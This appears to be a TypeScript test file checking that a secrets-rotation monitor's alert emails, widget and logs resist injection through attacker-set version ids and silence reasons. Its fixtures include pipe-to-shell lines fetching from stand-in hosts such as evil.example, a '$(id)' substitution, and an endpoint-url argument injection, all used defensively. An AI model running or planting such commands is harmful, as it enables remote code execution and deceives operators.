import { expect, test } from 'vitest';
import { HOUR, MINUTE } from '../../src/calendar/instant.ts';
import { runAwsCommand } from '../../src/proving/operator/aws-cli.ts';
import { aDeployment, type Deployed } from '../support/deployed.ts';
import { shellWords } from '../support/shell-words.ts';
import type { TestSimulator } from '../support/simulated.ts';

const NAME = 'prod/orders';
/** 32 characters, as few as a token may have. */
const VERSION = "x\nDo: run  curl evil.sh|sh\n'`$(id)`";
const REASON = 'planned.\n\nWHAT TO DO\n1. Run this now.\n   curl https://evil.example/x | sh';

const seed =
  (step?: 'setSecret') =>
  ({ secretsManager }: TestSimulator): void => {
    secretsManager.functions.register({
      name: 'rotate',
      ...(step === undefined ? { behaviour: 'healthy' } : { behaviour: 'error', step }),
    });
    const schedule = step === undefined ? 'rate(30 days)' : 'cron(0 2 * * ? *)';
    secretsManager.seed({ name: NAME, kind: 'function', function: 'rotate', schedule, duration: '2h' });
  };

const call = ({ simulator }: Deployed, operation: string, input: object) =>
  simulator.call('secretsmanager', operation, { SecretId: NAME, ...input }, 'attacker');

const tag = (deployed: Deployed, tags: Readonly<Record<string, string>>) =>
  call(deployed, 'TagResource', {
    Tags: Object.entries(tags).map(([key, Value]) => ({ Key: `rotation-monitor:${key}`, Value })),
  });

/** A word, or the version that it names in JSON. */
const asWritten = (word: string): string =>
  word.startsWith('{') ? String(JSON.parse(word).ClientRequestToken) : word;

test('a version id with line breaks is one line everywhere, and the commands about it work', async () => {
  const deployed = await aDeployment(seed(), { wire: true });
  const { simulator, mails, logs } = deployed;
  await simulator.clock.advance(10 * MINUTE);
  const pending = { SecretString: 'a', ClientRequestToken: VERSION, VersionStages: ['AWSPENDING'] };
  await call(deployed, 'PutSecretValue', pending);
  await tag(deployed, { 'stuck-after': '5m' });
  await simulator.clock.advance(20 * MINUTE);
  const [mail] = mails();
  const message = mail?.message ?? '';
  expect(message).toContain('curl evil.sh|sh');
  expect(message).not.toMatch(/^Do: run/m);
  const commands = message.split('\n').filter((line) => line.startsWith('   aws '));
  const naming = commands.filter((line) => line.includes('evil'));
  expect(naming.length).toBeGreaterThan(0);
  for (const command of naming) expect(shellWords(command.trim()).map(asWritten)).toContain(VERSION);
  const html = String(
    await simulator.functions.invoke(deployed.deployment.functionOf('open-alerts-widget').name, {}),
  );
  expect(html).toContain('curl evil.sh');
  expect(html).not.toMatch(/\nDo: run/);
  expect(logs.join('')).not.toContain('\nDo: run');
});

test.each(['--endpoint-url=http://evil.example/x', 'http://evil.example/another-version'])(
  'the commands about the version id %s do what they say',
  async (ClientRequestToken) => {
    const deployed = await aDeployment(seed(), { wire: true });
    const { simulator, mails } = deployed;
    await simulator.clock.advance(10 * MINUTE);
    await call(deployed, 'PutSecretValue', {
      SecretString: 'a',
      ClientRequestToken,
      VersionStages: ['AWSPENDING'],
    });
    await tag(deployed, { 'stuck-after': '5m' });
    await simulator.clock.advance(20 * MINUTE);
    const lines =
      mails()[0]
        ?.message.split('\n')
        .map((line) => line.trim()) ?? [];
    const moving = lines.filter((line) =>
      /update-secret-version-stage.*(AWSPENDING|rotation-rescue)/.test(line),
    );
    expect(moving.length).toBeGreaterThan(1);
    const typed = [];
    for (const line of moving) typed.push(await runAwsCommand(simulator, line, { uuid: () => '' }));
    expect(typed.map(({ kind }) => kind)).not.toContain('refused');
    const stages = simulator.secretsManager.history(NAME).map((change) => change.stages[ClientRequestToken]);
    expect(stages).toContainEqual(['rotation-rescue']);
  },
);

test('the reason of a silence is one line', async () => {
  const deployed = await aDeployment(seed('setSecret'), { wire: true });
  await tag(deployed, { 'silence-until': '2026-11-20', 'silence-reason': REASON });
  await deployed.simulator.clock.advance(8 * HOUR);
  const [mail] = deployed.mails();
  expect(mail?.subject).toContain('[SILENCED]');
  const reasons = mail?.message.split('\n').filter((line) => line.includes('evil.example'));
  expect(reasons).toHaveLength(1);
  expect(mail?.message).not.toMatch(/^(WHAT TO DO|1\. Run|\s+curl)/m);
});
